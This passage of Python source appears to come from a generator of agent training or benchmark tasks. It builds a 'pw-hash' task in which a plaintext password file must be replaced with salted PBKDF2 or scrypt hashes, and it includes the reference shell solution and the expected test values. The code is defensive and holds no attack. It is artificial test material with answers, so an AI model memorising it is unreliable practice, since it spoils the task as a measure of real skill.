    "colon": "users = dict(l.rstrip('\\n').split(':', 1) for l in open(PATH, encoding='utf-8') if l.strip())",
    "csv": "users = {r['username']: r['password'] for r in csv.DictReader(open(PATH, encoding='utf-8', newline=''))}",
    "json": "users = {o['username']: o['password'] for o in json.load(open(PATH, encoding='utf-8'))}",
}


def _pw_hash(rng: random.Random, index: int) -> Instance:
    fmt = rng.choice(sorted(_PW_USERS))
    scheme = rng.choice(sorted(_PW_SCHEME))
    how = rng.choice(["hex", "base64"])
    odd, login, copies = rng.random() < 0.5, rng.random() < 0.45, rng.random() < 0.4
    it = rng.choice([20000, 25000, 40000])
    svc = f"/app/{rng.choice(['intranet', 'wiki', 'helpdesk', 'portal'])}"
    plain, plain_desc = _PW_USERS[fmt]
    odd_bits = [" x", "y ", "p:q", "caf\u00e9", 'q"t', "a,b"] if odd else [""]
    users = [(f"{name}{rng.randint(1, 9)}", f"{rng.choice(['Sun', 'Ivy', 'Oak', 'Elm'])}-{rng.randint(1000, 9999)}"
              f"{rng.choice(odd_bits)}{rng.choice('!?#%')}", rng.choice(["admin", "staff", "guest"]))
             for name in rng.sample(["ana", "bo", "cy", "dee", "eli", "fox", "gus", "hal", "ivy", "jo"], 7)]
    text = {"colon": "".join(f"{u}:{p}\n" for u, p, _ in users),
            "json": json.dumps([{"username": u, "password": p, "role": r} for u, p, r in users], indent=1)}.get(fmt)
    if text is None:
        buf = io.StringIO()
        csv.writer(buf, lineterminator="\n").writerows([("username", "password", "role"), *users])
        text = buf.getvalue()
    rel = svc[5:]
    files: dict[str, str | bytes] = {f"{rel}/{plain}": text}
    if copies:
        files[f"{rel}/old/{plain}.orig"] = text
        files[f"{rel}/.{plain}.swp"] = text
    if login:
        files[f"{rel}/login.py"] = (f"#!/usr/bin/env python3\n\"\"\"login.py USER PASSWORD: prints ok or denied.\"\"\"\n"
                                    f"import csv, json, sys\nPATH = '{svc}/{plain}'\n{_LOGIN[fmt]}\n"
                                    "print('ok' if users.get(sys.argv[1]) == sys.argv[2] else 'denied')\n")
    scheme_text = _PW_SCHEME[scheme].format(it=it)
    enc_text = "lowercase hex" if how == "hex" else "standard base64 with padding (`base64.b64encode`)"
    instruction = f"""\
The service in `{svc}/` keeps its users' passwords in plain text in `{svc}/{plain}`: {plain_desc}.
Passwords are UTF-8 and may hold any character.

1. Write `{svc}/pwtool.py` (Python 3, standard library only):
   - `python3 {svc}/pwtool.py hash IN OUT` reads a file in the format of `{plain}` and writes OUT
     with one line per user, in input order: {scheme_text}, where SALT is a fresh random salt of
     16 bytes per user (from `os.urandom` or `secrets`) and HASH the derived key of the password's
     UTF-8 bytes, both in {enc_text}. Lines end with a newline.
   - `python3 {svc}/pwtool.py verify FILE USER PASSWORD` exits 0 if FILE (in OUT's format) has
     USER and PASSWORD matches, 1 otherwise (unknown user included). Compare in constant time.
2. Convert `{svc}/{plain}` into `{svc}/users.hashed` with it.
3. Remove the plaintext passwords: no file under `/app` may contain any of them afterwards (look
   for copies too).""" + (f"""
4. `{svc}/login.py USER PASSWORD` (prints `ok` or `denied`) reads the plaintext file; change it to
   check against `{svc}/users.hashed` instead, with the same output.""" if login else "") + "\n"
    solution = f"""cat > {svc}/pwtool.py <<'PY_EOF'
import base64, csv, hashlib, hmac, io, json, os, sys
SCHEME, HOW, IT = {scheme!r}, {how!r}, {it}
def enc(b): return b.hex() if HOW == "hex" else base64.b64encode(b).decode()
def dec(s): return bytes.fromhex(s) if HOW == "hex" else base64.b64decode(s)
def derive(pw, salt):
    if SCHEME == "scrypt":
        return hashlib.scrypt(pw.encode(), salt=salt, n=16384, r=8, p=1, dklen=32)
    return hashlib.pbkdf2_hmac(SCHEME.split("-")[1], pw.encode(), salt, IT, 64 if SCHEME.endswith("512") else 32)
def params(): return "ln=14,r=8,p=1" if SCHEME == "scrypt" else str(IT)
def read(path):
    text = open(path, encoding="utf-8", newline="").read()
    if {fmt!r} == "colon":
        return [l.split(":", 1) for l in text.split("\\n") if l]
    if {fmt!r} == "json":
        return [(o["username"], o["password"]) for o in json.loads(text)]
    return [(r["username"], r["password"]) for r in csv.DictReader(io.StringIO(text))]
def lookup(path, user):
    for line in open(path, encoding="utf-8").read().split("\\n"):
        u, _, rest = line.partition(":")
        if u == user and line:
            return rest.split("$")
if sys.argv[1] == "hash":
    with open(sys.argv[3], "w", encoding="utf-8") as out:
        for u, p in read(sys.argv[2]):
            salt = os.urandom(16)
            out.write(f"{{u}}:${{SCHEME}}${{params()}}${{enc(salt)}}${{enc(derive(p, salt))}}\\n")
else:
    parts = lookup(sys.argv[2], sys.argv[3])
    ok = parts is not None and len(parts) == 5 and hmac.compare_digest(derive(sys.argv[4], dec(parts[3])), dec(parts[4]))
    sys.exit(0 if ok else 1)
PY_EOF
python3 {svc}/pwtool.py hash {svc}/{plain} {svc}/users.hashed
rm -f {svc}/{plain} {svc}/old/{plain}.orig {svc}/.{plain}.swp
"""
    if login:
        solution += (f"cat > {svc}/login.py <<'PY_EOF'\nimport subprocess, sys\n"
                     f"r = subprocess.run([sys.executable, '{svc}/pwtool.py', 'verify', '{svc}/users.hashed', "
                     "sys.argv[1], sys.argv[2]])\nprint('ok' if r.returncode == 0 else 'denied')\nPY_EOF\n")
    expected = {"svc": svc, "scheme": scheme, "enc": how, "iterations": it, "fmt": fmt, "odd": odd,
                "login": login, "plain": plain, "users": users}
    traps = int(odd) + int(copies)
    total = 1 + int(login) + 1 + traps
    return Instance(
        instruction=instruction, tests=_PW_TESTS, solution=solution,
        difficulty="easy" if total <= 2 else "medium" if total <= 4 else "hard",
        variant=f"{scheme}/{fmt}/{how}" + ("/login" if login else "") + ("/copies" if copies else "") + ("/odd" if odd else ""),
        files=files, test_files={"expected.json": json.dumps(expected), "h4_pw.py": source(h4_pw)},
        tags=("passwords", "kdf", scheme), oracle_turns=3,
    )


FAMILIES.append(Family("pw-hash", "security", "train",
                       "replace a plaintext password file (colon/CSV/JSON) with salted PBKDF2 or scrypt "
                       "hashes, a verify tool, no plaintext copies left, login switched", _pw_hash))
